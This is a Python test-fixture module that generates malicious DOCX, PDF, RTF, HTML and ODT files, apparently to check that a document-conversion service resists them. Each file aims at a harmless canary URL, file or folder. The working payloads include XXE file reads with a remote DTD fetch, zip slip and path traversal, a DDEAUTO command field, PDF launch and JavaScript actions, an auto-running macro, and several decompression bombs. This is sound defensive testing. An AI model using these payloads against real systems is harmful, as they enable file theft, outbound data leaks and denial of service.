"""Files as an attacker would send them.

Through `canary` they name a server not to be asked, a file not to be read, a folder not to be written to.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)
PLAIN = "Kết quả thực hiện nhiệm vụ trong kỳ báo cáo của đơn vị."


@dataclass(frozen=True)
class Canary:
    """A server that must not be asked, a file that must not be read, a folder that nothing may be put in."""

    url: str
    secret_file: Path
    outside: Path


def document_xml(body: str, head: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{head}<w:document xmlns:w="{_W}" '
        f'xmlns:r="{_R}"><w:body>{body}</w:body></w:document>'
    )


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def package(document: str, **parts: bytes | str) -> bytes:
    """Zip a DOCX; `parts`: member name (with `__` for `/`) to content, put in as they are."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("word/document.xml", document)
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return stream.getvalue()


def entity_docx(canary: Canary) -> bytes:
    head = (
        f'<!DOCTYPE w [<!ENTITY x SYSTEM "{canary.secret_file.as_uri()}">'
        f'<!ENTITY % far SYSTEM "{canary.url}/xxe.dtd"> %far;]>'
    )
    return package(document_xml(paragraph("trước &x; sau"), head))


def laughs_docx(_canary: Canary) -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<!DOCTYPE w [<!ENTITY l0 "{"ha" * 50}">{levels}]>'
    return package(document_xml(paragraph("&l9;"), head))


def outside_docx(canary: Canary) -> bytes:
    """Relations that Word would follow: template, picture, linked object, frame, footnotes elsewhere."""
    kinds = ("attachedTemplate", "image", "oleObject", "frame", "hyperlink", "aFChunk", "footnotes", "header")
    relations = "".join(
        f'<Relationship Id="x{n}" Type="{_R}/{kind}" Target="{canary.url}/{kind}" TargetMode="External"/>'
        for n, kind in enumerate(kinds)
    )
    body = paragraph(PLAIN) + '<w:altChunk r:id="x5"/>'
    rels = (
        '<?xml version="1.0"?><Relationships '
        f'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relations}</Relationships>'
    )
    return package(
        document_xml(body), word___rels__document_xml_rels="", **{"word/_rels/document.xml.rels": rels}
    )


def inside_relation_docx(canary: Canary) -> bytes:
    """Write internal relations whose targets climb out of the package."""
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="x1" Type="{_R}/footnotes" '
        f'Target="../../../../../../..{canary.secret_file.as_posix()}"/></Relationships>'
    )
    return package(document_xml(paragraph(PLAIN)), **{"word/_rels/document.xml.rels": rels})


def slip_docx(canary: Canary) -> bytes:
    up = "../" * 12 + canary.outside.as_posix().lstrip("/")
    members = {
        f"{up}/zip-slip.txt": "x",
        f"{canary.outside.as_posix()}/absolute.txt": "x",
        "..\\..\\w.txt": "x",
    }
    return package(document_xml(paragraph(PLAIN)), **members)


def field_docx(canary: Canary) -> bytes:
    """Fields that Word would run: DDE, INCLUDETEXT, a picture from elsewhere."""
    fields = "".join(
        f"<w:p><w:fldSimple w:instr='{code}'><w:r><w:t>giá trị</w:t></w:r></w:fldSimple></w:p>"
        for code in (
            f'DDEAUTO "cmd" "/c echo x &gt; {canary.outside}/dde"',
            f'INCLUDETEXT "{canary.secret_file}"',
            f'INCLUDEPICTURE "{canary.url}/field.png" \\d',
        )
    )
    return package(document_xml(paragraph(PLAIN) + fields))


def macro_docm(_canary: Canary) -> bytes:
    return package(document_xml(paragraph(PLAIN)), **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def bomb_docx(_canary: Canary) -> bytes:
    return package(document_xml(f"<w:p><w:r><w:t>{'A' * 300_000_000}</w:t></w:r></w:p>"))


def deep_docx(_canary: Canary) -> bytes:
    depth = 20_000
    return package(document_xml("<w:sdt><w:sdtContent>" * depth + "</w:sdtContent></w:sdt>" * depth))


def many_members_docx(_canary: Canary) -> bytes:
    return package(document_xml(paragraph(PLAIN)), **{f"word/media/{n}.png": b"" for n in range(20_000)})


def overlapping_docx(_canary: Canary) -> bytes:
    """One big deflated stream that many directory entries claim (a bomb that no single ratio shows)."""
    data = bytearray(
        package(document_xml(paragraph(PLAIN)), **{"word/a.xml": "<a>" + " " * 5_000_000 + "</a>"})
    )
    start = data.index(b"PK\x01\x02")
    directory = bytes(data[start : data.index(b"PK\x05\x06")])
    last = directory[directory.rindex(b"PK\x01\x02") :]
    end = bytearray(data[data.index(b"PK\x05\x06") :])
    total = 3000
    grown = directory + last * total
    end[8:10] = end[10:12] = (4 + total).to_bytes(2, "little")
    end[12:16] = len(grown).to_bytes(4, "little")
    return bytes(data[:start]) + grown + bytes(end)


def pdf(objects: list[bytes], root: int = 1) -> bytes:
    """Join numbered objects into a PDF with a right cross-reference table."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    table = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\nstartxref\n{table}\n%%EOF\n".encode()
    return bytes(out)


def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), more) + content + b"\nendstream"


def page_pdf(content: bytes, catalog: bytes = b"", page: bytes = b"/MediaBox [0 0 595 842]") -> bytes:
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R " + page + b" /Contents 4 0 R "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        content,
    ])  # fmt: skip


def active_pdf(canary: Canary) -> bytes:
    """Scripts, a program to launch, a form to submit, a file to open: all on opening."""
    actions = (
        f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{canary.url}/js'\\);) /Next "
        f"[<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >> "
        f"<< /S /URI /URI ({canary.url}/uri) >> "
        f"<< /S /SubmitForm /F << /FS /URL /F ({canary.url}/form) >> >> "
        f"<< /S /GoToR /F ({canary.secret_file}) /D [0 /Fit] >>] >>"
    )
    return page_pdf(stream(b"BT /F1 12 Tf 72 720 Td (Bao cao ket qua) Tj ET"), actions.encode())


def bomb_pdf(_canary: Canary) -> bytes:
    """Half a gigabyte of page content in half a megabyte."""
    squeezed = zlib.compressobj(9)
    data = b"".join(squeezed.compress(b" " * 10_000_000) for _ in range(50)) + squeezed.flush()
    return page_pdf(stream(data, b"/Filter /FlateDecode"))


def doubly_squeezed_pdf(_canary: Canary) -> bytes:
    inner = zlib.compress(zlib.compress(b"q " * 100_000_000, 9), 9)
    return page_pdf(stream(inner, b"/Filter [/FlateDecode /FlateDecode]"))


def huge_page_pdf(_canary: Canary) -> bytes:
    return page_pdf(stream(b"0 0 1 rg 0 0 9999999 9999999 re f"), page=b"/MediaBox [0 0 9999999 9999999]")


def looping_pdf(_canary: Canary) -> bytes:
    """Make a tree of pages that contains itself, and a form that draws itself."""
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /X 5 0 R >> >> >>",
        stream(b"/X Do"),
        stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
               b"/Resources << /XObject << /X 5 0 R >> >>"),
    ])  # fmt: skip


def many_pages_pdf(_canary: Canary) -> bytes:
    """One page named a hundred thousand times."""
    kids = b"3 0 R " * 100_000
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count 100000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ])  # fmt: skip


def picture_bomb_pdf(_canary: Canary) -> bytes:
    """Make a scan that claims a picture of 60,000 by 60,000 points."""
    image = stream(zlib.compress(b"\0" * 1000), b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 "
                   b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode")  # fmt: skip
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /XObject << /I 5 0 R >> >> >>",
        stream(b"q 595 0 0 842 0 0 cm /I Do Q"),
        image,
    ])  # fmt: skip


def rich_text(canary: Canary) -> bytes:
    """RTF that names a template and a picture elsewhere, and holds an object that would start."""
    return (
        r"{\rtf1\ansi{\*\template " + canary.url + r"/rtf.dotx}{\field{\*\fldinst INCLUDEPICTURE "
        f'"{canary.url}/rtf.png" \\\\d}}{{\\fldrslt x}}}}'
        r"{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 0105000002000000}}"
        r" Bao cao ket qua thuc hien nhiem vu.\par}"
    ).encode()


def web_page(canary: Canary) -> bytes:
    """HTML under the name of a Word file."""
    return (
        f'<html><head><link rel="stylesheet" href="{canary.url}/page.css"><script src="{canary.url}/page.js">'
        f'</script></head><body><p>Báo cáo kết quả.</p><img src="{canary.url}/page.png">'
        f'<iframe src="{canary.secret_file.as_uri()}"></iframe></body></html>'
    ).encode()


def macro_text(canary: Canary) -> bytes:
    """Flat ODF whose event would run a macro that leaves a mark outside."""
    office = "urn:oasis:names:tc:opendocument:xmlns"
    code = f'Sub Go\nOpen "{canary.outside}/macro" For Output As #1\nPrint #1, "x"\nClose #1\nEnd Sub'
    return (
        f'<?xml version="1.0"?><office:document xmlns:office="{office}:office:1.0" '
        f'xmlns:text="{office}:text:1.0" xmlns:script="{office}:script:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office" '
        'office:mimetype="application/vnd.oasis.opendocument.text" office:version="1.3"><office:scripts>'
        '<office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded '
        f'ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>{code}</ooo:source-code></ooo:module>'
        "</ooo:library-embedded></ooo:libraries></office:script><office:event-listeners>"
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.M.Go?language=Basic&amp;location=document"/>'
        "</office:event-listeners></office:scripts><office:body><office:text><text:p>Bao cao.</text:p>"
        "</office:text></office:body></office:document>"
    ).encode()


FILES = {
    "entity.docx": entity_docx,
    "laughs.docx": laughs_docx,
    "outside.docx": outside_docx,
    "climbing.docx": inside_relation_docx,
    "slip.docx": slip_docx,
    "field.docx": field_docx,
    "macro.docx": macro_docm,
    "bomb.docx": bomb_docx,
    "deep.docx": deep_docx,
    "members.docx": many_members_docx,
    "overlap.docx": overlapping_docx,
    "active.pdf": active_pdf,
    "bomb.pdf": bomb_pdf,
    "bomb2.pdf": doubly_squeezed_pdf,
    "huge.pdf": huge_page_pdf,
    "loop.pdf": looping_pdf,
    "pages.pdf": many_pages_pdf,
    "picture.pdf": picture_bomb_pdf,
    "template.rtf": rich_text,
    "page.doc": web_page,
    "macro.odt": macro_text,
    "macro.doc": macro_text,
}
